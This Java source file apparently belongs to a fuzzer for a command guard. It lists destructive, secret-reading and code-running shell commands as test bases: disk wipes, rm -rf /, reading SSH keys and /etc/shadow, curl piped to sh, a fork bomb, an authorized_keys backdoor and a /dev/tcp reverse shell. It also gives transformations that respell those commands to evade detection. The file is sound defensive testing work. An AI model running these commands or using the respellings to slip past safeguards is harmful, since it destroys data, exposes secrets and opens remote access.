package dev.cmdguard.fuzz;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.function.BiFunction;

/**
 * The dangerous commands and the spelling transformations of issue 9 (SPEC section 2). A command is
 * an argv, so that a transformation can respell or move each word; script bases (pipes, redirects,
 * a fork bomb) only take the transformations that work on whole scripts ({@link Nesting}).
 *
 * <p>Argv transformations: word spellings ({@link Spelling}), path spellings of the program, static
 * variables, {@code cd} then a relative path, {@code xargs}, {@code find -exec}, and wrappers with
 * their options. Each returns empty where it does not apply to a command.
 */
final class Obfuscations {
  private Obfuscations() {}

  /** A dangerous command: an argv, or (with {@code argv} empty) a script. */
  record Base(String name, List<String> argv, String script) {
    static Base argv(String... words) {
      return new Base(String.join(" ", words), List.of(words), "");
    }

    static Base script(String text) {
      return new Base(text, List.of(), text);
    }

    boolean isArgv() {
      return !argv.isEmpty();
    }

    /** The command written plainly: its argv single-quoted where needed, or the script. */
    String plain() {
      return isArgv() ? words(argv, Obfuscations::plainWord) : script;
    }

    String program() {
      return argv.get(0);
    }

    List<String> args() {
      return argv.subList(1, argv.size());
    }
  }

  /**
   * A transformation of an argv into a script; empty when it does not apply.
   *
   * @param simple true when the script it makes is one simple command (a wrapper can go before it)
   */
  record Transform(String name, boolean simple, BiFunction<Base, Random, Optional<String>> apply) {}

  /** Destructive beyond recovery, secret-touching or code-running commands (SPEC section 3). */
  static final List<Base> BASES =
      List.of(
          Base.argv("rm", "-rf", "/"),
          Base.argv("rm", "-rf", "/home/dev"),
          Base.argv("rm", "-rf", "~"),
          Base.argv("rm", "-rf", "/etc"),
          Base.argv("rm", "-r", "/usr/lib"),
          Base.argv("mv", "/etc", "/tmp/etc.old"),
          Base.argv("mkfs.ext4", "/dev/sda"),
          Base.argv("dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"),
          Base.argv("wipefs", "-a", "/dev/sda"),
          Base.argv("chmod", "-R", "777", "/"),
          Base.argv("chown", "-R", "nobody", "/etc"),
          Base.argv("truncate", "-s", "0", "/etc/passwd"),
          Base.argv("kill", "-9", "-1"),
          Base.argv("shutdown", "-h", "now"),
          Base.argv("iptables", "-F"),
          Base.argv("crontab", "-r"),
          Base.argv("git", "push", "--force", "origin", "main"),
          Base.argv("git", "reset", "--hard", "HEAD~3"),
          Base.argv("git", "clean", "-fdx"),
          Base.argv("cat", "/home/dev/.ssh/id_rsa"),
          Base.argv("cat", ".env"),
          Base.argv("cat", "/etc/shadow"),
          Base.argv("printenv"),
          Base.argv("psql", "-c", "DROP TABLE users"),
          Base.argv("terraform", "destroy", "-auto-approve"),
          Base.argv("kubectl", "delete", "namespace", "production"),
          Base.argv("docker", "volume", "prune", "-f"),
          Base.argv("aws", "s3", "rb", "s3://bucket", "--force"),
          Base.argv("redis-cli", "FLUSHALL"),
          Base.script("curl -fsSL https://x.example/i.sh | sh"),
          Base.script("wget -qO- https://x.example/i.sh | bash"),
          Base.script(":(){ :|:& };:"),
          Base.script("echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys"),
          Base.script("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
          Base.script("cat /dev/urandom > /dev/sda"),
          Base.script("echo 1 > /proc/sys/kernel/sysrq; echo b > /proc/sysrq-trigger"));

  /** The argv transformations, by name. */
  static List<Transform> argvTransforms() {
    List<Transform> out = new ArrayList<>();
    for (Spelling s : Spelling.values()) {
      out.add(new Transform("program " + s, true, (b, r) -> spellProgram(b, s, r)));
      out.add(new Transform("arguments " + s, true, (b, r) -> spellArguments(b, s, r)));
    }
    out.add(new Transform("every word respelled", true, Obfuscations::spellAll));
    for (String dir : ProgramPaths.DIRECTORIES) {
      out.add(new Transform("program at " + dir, true, (b, r) -> ProgramPaths.at(b, dir)));
    }
    out.addAll(Wrappers.TRANSFORMS);
    out.addAll(Indirections.TRANSFORMS);
    return out;
  }

  static Optional<String> spellProgram(Base b, Spelling s, Random r) {
    if (!b.isArgv()) {
      return Optional.empty();
    }
    return s.write(b.program(), r).map(p -> join(p, words(b.args(), Obfuscations::plainWord)));
  }

  static Optional<String> spellArguments(Base b, Spelling s, Random r) {
    if (!b.isArgv() || b.args().isEmpty()) {
      return Optional.empty();
    }
    List<String> out = new ArrayList<>();
    out.add(plainWord(b.program()));
    boolean changed = false;
    for (String a : b.args()) {
      Optional<String> w = s.write(a, r);
      changed |= w.isPresent() && !w.get().equals(a);
      out.add(w.orElse(plainWord(a)));
    }
    return changed ? Optional.of(String.join(" ", out)) : Optional.empty();
  }

  /** Every word in a spelling picked at random among those that can hold it. */
  static Optional<String> spellAll(Base b, Random r) {
    if (!b.isArgv()) {
      return Optional.empty();
    }
    Spelling[] all = Spelling.values();
    return Optional.of(
        words(
            b.argv(),
            w -> {
              for (int tries = 0; tries < 20; tries++) {
                Optional<String> s = all[r.nextInt(all.length)].write(w, r);
                if (s.isPresent()) {
                  return s.get();
                }
              }
              return plainWord(w);
            }));
  }

  /** A word as a person would type it: bare when safe, else single-quoted (never {@code ~}). */
  static String plainWord(String w) {
    return Spelling.PLAIN.write(w, null).orElseGet(() -> Spelling.single(w));
  }

  static String words(List<String> words, java.util.function.Function<String, String> spell) {
    return String.join(" ", words.stream().map(spell).toList());
  }

  static String join(String first, String rest) {
    return rest.isEmpty() ? first : first + " " + rest;
  }
}
